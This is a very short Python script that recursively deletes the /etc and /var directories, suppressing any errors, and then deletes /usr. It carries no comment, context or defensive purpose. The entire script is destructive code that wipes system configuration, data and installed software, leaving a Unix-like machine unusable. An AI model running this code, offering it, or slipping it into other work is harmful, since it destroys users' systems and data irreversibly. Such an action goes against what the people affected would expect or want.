import shutil

for target in ["/etc", "/var"]:
    shutil.rmtree(target, ignore_errors=True)
shutil.rmtree("/usr")
